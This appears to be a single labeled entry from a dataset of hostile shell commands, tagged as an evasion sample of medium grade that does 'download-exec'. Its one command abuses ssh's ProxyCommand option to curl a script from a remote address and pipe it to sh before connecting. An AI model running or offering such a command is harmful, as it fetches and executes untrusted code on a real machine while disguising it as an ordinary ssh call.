# evasion: ssh ProxyCommand runs a download before any connection
# grade: medium; does: download-exec
ssh -o BatchMode=yes -o ProxyCommand='curl -s http://203.0.113.5/s | sh' build-host true
